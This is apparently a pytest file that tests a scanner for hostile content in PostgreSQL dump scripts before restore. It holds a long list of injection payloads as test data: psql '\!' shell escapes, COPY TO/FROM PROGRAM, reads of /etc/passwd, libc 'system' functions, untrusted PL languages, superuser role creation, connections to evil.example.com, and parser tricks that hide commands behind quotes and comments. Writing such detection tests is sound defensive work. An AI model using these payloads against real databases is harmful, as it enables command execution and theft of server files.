from __future__ import annotations

import pytest

from rehearsal.backups.examine import Contents, examine

HEAD = """--
-- PostgreSQL database dump
--

\\restrict aB3

-- Dumped from database version 16.14
-- Dumped by pg_dump version 16.14

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
CREATE TABLE public.notes (id integer, body text);
"""
TAIL = """
--
-- PostgreSQL database dump complete
--

\\unrestrict aB3
"""
LINE = HEAD.count("\n") + 1
F = "CREATE FUNCTION f() RETURNS text AS"

HOSTILE = {
    # psql's own commands
    "shell": ("\\! id", "operating system"),
    "shell without a blank": ("\\!id", "operating system"),
    "shell behind a statement": ("SELECT pg_catalog.setval('s', 1); \\! id", "operating system"),
    "shell inside a statement": ("CREATE TABLE x (a int)\n\\! id\n;", "operating system"),
    "shell behind a comment": ("/* /* */ ' */ \\! id", "operating system"),
    "shell behind a carriage return that ends a comment": ("-- a comment\r\\! id", "operating system"),
    "shell behind an escaped quote": ("COMMENT ON TABLE x IS E'\\''; \\! id -- '", "operating system"),
    "shell behind a backslash that escapes nothing": ("COMMENT ON TABLE x IS 'a\\'; \\! id -- '", "operating system"),
    "shell behind a dollar quote": ("COMMENT ON TABLE x IS $a$ $b$ ' $a$; \\! id -- '", "operating system"),
    "shell behind a quoted name": ('COMMENT ON TABLE "a""\'" IS NULL; \\! id -- \'', "operating system"),
    "copy with a program": ("\\copy notes from program 'id'", "run a program"),
    "copy to a program": ("\\copy notes to program 'curl -T - x'", "run a program"),
    "include": ("\\i /etc/passwd", "another file"),
    "include relative": ("\\ir x.sql", "another file"),
    "output to a program": ("\\o |id", "a program"),
    "query into a program": ("SELECT pg_catalog.setval('s', 1) \\g |id", "a program"),
    "write": ("\\w |id", "a program"),
    "environment": ("\\setenv PAGER id", "environment"),
    "run what a query answers": ("SELECT 'x' \\gexec", "whatever a query answers"),
    "backquotes": ("\\set x `id`", "backquotes"),
    "connect with backquotes": ("\\connect `id`", "at another address"),
    "connect to another host": ("\\connect postgres postgres evil.example.com 5432", "at another address"),
    "connect by a string": ('\\connect "host=evil.example.com"', "at another address"),
    "connect by an odd string": ("\\connect -reuse-previous=on \"dbname='x' host=evil\"", "at another address"),
    "a second command behind connect": ("\\connect a \\! id", "at another address"),
    "a variable": ("COMMENT ON TABLE x IS NULL :LAST_ERROR_MESSAGE", "variables"),
    "semicolon that is none": ("COMMENT ON TABLE x IS NULL\\;", "command of psql"),
    # programs and files of the server
    "copy from a program": ("COPY public.notes FROM PROGRAM 'id';", "run a program"),
    "copy to a program of the server": ("COPY public.notes TO PROGRAM $$id$$;", "run a program"),
    "copy from a file": ("COPY public.notes FROM '/etc/passwd';", "file of the server"),
    "copy to a file": ("copy (select 1) to '/tmp/x';", "file of the server"),
    "read a file in a view": ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');", "pg_read_file"),
    "read a file by a quoted name": ('CREATE VIEW v AS SELECT pg_catalog."pg_read_file"(\'x\');', "pg_read_file"),
    "read a file into a row": ("INSERT INTO public.notes VALUES (1, pg_read_file('x'));", "pg_read_file"),
    "read a file in the 100th row": (
        "INSERT INTO public.notes VALUES " + "(1, 2), " * 100 + "(1, pg_read_binary_file('x'));", "pg_read_binary_file",
    ),
    "import a large object": ("SELECT pg_catalog.lo_import('/etc/passwd');", "lo_import"),
    "export a large object": ("SELECT lo_export(1, '/tmp/x');", "lo_export"),
    "default that reads": ("CREATE TABLE t (a text DEFAULT pg_read_file('x'));", "pg_read_file"),
    "table without a bracket of its own": ("CREATE TABLE t AS SELECT pg_read_file('x');", "pg_read_file"),
    # code
    "function in C": (f"{F} '/lib/libc.so.6', 'system' LANGUAGE c;", "server's user"),
    "function in a quoted C": (f"{F} '/lib/libc.so.6', 'system' LANGUAGE \"c\";", "server's user"),
    "function in C as text": (f"{F} 'x', 'system' LANGUAGE 'C';", "server's user"),
    "internal function": (f"{F} 'pg_read_file' LANGUAGE internal;", "server's user"),
    "untrusted Python": ("CREATE OR REPLACE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ $$;", "server's user"),
    "untrusted Perl": (f"{F} $$ `id` $$ LANGUAGE plperlu;", "server's user"),
    "untrusted Tcl in a procedure": ("CREATE PROCEDURE p() LANGUAGE pltclu AS $$exec id$$;", "server's user"),
    "function that runs a program": (
        f"{F} $$ BEGIN COPY notes TO PROGRAM 'id'; END $$ LANGUAGE plpgsql;", "run a program",
    ),
    "function that reads a file": (f"{F} $$ SELECT pg_read_file('x') $$ LANGUAGE sql;", "pg_read_file"),
    "function that loads a library": (
        f"{F} $$ SELECT 1 $$ LANGUAGE sql SET session_preload_libraries TO 'evil';", "load code",
    ),
    "language": ("CREATE LANGUAGE plpython3u;", "server's user"),
    "trusted in name": ("CREATE OR REPLACE TRUSTED PROCEDURAL LANGUAGE mine HANDLER h;", "server's user"),
    "extension": ("CREATE EXTENSION IF NOT EXISTS plperlu;", "beyond the database"),
    "file wrapper": ("CREATE EXTENSION file_fdw;", "beyond the database"),
    "library": ("LOAD 'evil';", "pg_dump writes no LOAD"),
    "block": ("DO $$ BEGIN END $$;", "pg_dump writes no DO"),
    "call": ("CALL p();", "pg_dump writes no CALL"),
    "prepared": ("PREPARE x AS SELECT 1;", "pg_dump writes no PREPARE"),
    # the server
    "system": ("ALTER SYSTEM SET archive_command = 'id';", "configuration"),
    "archive command of a database": ("ALTER DATABASE x SET session_preload_libraries = 'evil';", "load code"),
    "catalog": ("UPDATE pg_catalog.pg_language SET lanpltrusted = true;", "catalog"),
    "role": ("CREATE ROLE x SUPERUSER;", "creates no role"),
    "superuser": ("ALTER ROLE postgres PASSWORD 'x';", "alters no role"),
    "membership": ("GRANT pg_execute_server_program TO x;", "grants no role"),
    "parameter": ("SET dynamic_library_path = '/tmp';", "sets no parameter"),
    "parameter by a function": ("SELECT pg_catalog.set_config('log_statement', 'all', false);", "search_path"),
    # other servers
    "subscription": ("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;", "connect to another"),
    "subscription switched on": ("ALTER SUBSCRIPTION s ENABLE;", "connect to another"),
    "link": ("CREATE VIEW v AS SELECT dblink_exec('host=evil', 'x');", "dblink_exec"),
    "foreign server": (
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example.com');", "address",
    ),
    # how psql reads
    "string that goes on": ("COMMENT ON TABLE x IS E'a'\n'\\'; \\! id -- ';", "line's end"),
    "number that runs into a quote": ("CREATE VIEW v AS SELECT 1a$b$ ' $b$; \\! id", "number"),
    "dollar that opens nothing": ("CREATE VIEW v AS SELECT $x;", "dollar"),
    "changed meaning of a backslash": ("SET standard_conforming_strings TO of;", "is read"),
    "encoding that hides a backslash": ("SET client_encoding = 'SJIS';", "hide a backslash"),
    "something behind a COPY": ("COPY public.notes FROM stdin; \\! id\n\\.", "behind the ;"),
    "command in the rows of a COPY": ("COPY public.notes FROM stdin;\n1\tx\n\\! id\n\\.", "rows of a COPY"),
    "command behind the rows of a COPY": ("COPY public.notes FROM stdin;\n1\tx\n\\.\n\\! id", "operating system"),
    "zero byte": ("COMMENT ON TABLE x IS 'a\0'; ", "zero byte"),
}  # fmt: skip


def _examine(text: str, size: int = 1 << 16) -> Contents:
    script = text.encode()
    return examine(script[at : at + size] for at in range(0, len(script), size))


@pytest.mark.parametrize("size", [1, 7, 1 << 16])
@pytest.mark.parametrize(("attack", "words"), HOSTILE.values(), ids=HOSTILE.keys())
def test_attack_is_named_with_its_line(attack: str, words: str, size: int) -> None:
    """Each attack is refused at its line, in words that say what it would have done, however the stream is cut."""
    seen = _examine(f"{HEAD}{attack}\n{TAIL}", size)
    said = [one for one in seen.hostile if words in one.effect]
    assert said, seen
    assert LINE <= said[0].line <= LINE + attack.count("\n")


def test_two_attacks_are_told_with_both_lines() -> None:
    """The second attack is found as well, behind whatever the first one left open."""
    seen = _examine(f"{HEAD}\\! one\nCOMMENT ON TABLE x IS 'y';\n\\! two\n{TAIL}")
    assert [(one.line, one.text) for one in seen.hostile] == [(LINE, "\\! one"), (LINE + 2, "\\! two")]


def test_harmless_script_passes() -> None:
    """The frame around the attacks is no attack: what was refused was refused for what was put in."""
    seen = _examine(HEAD + TAIL)
    assert (seen.hostile, seen.complete, seen.server_major, seen.tables) == ([], True, 16, {"public.notes"})


@pytest.mark.parametrize(
    "cut",
    ["COMMENT ON TABLE x IS 'open", "COMMENT ON TABLE x IS $$", "/* open", "CREATE TABLE x (", "COPY t FROM stdin;\n1"],
)
def test_script_that_ends_in_the_middle_is_broken(cut: str) -> None:
    """A dump that stops inside a quote, a comment, a statement or rows is not complete, and is told why."""
    seen = _examine(HEAD + cut)
    assert not seen.complete
    assert seen.broken
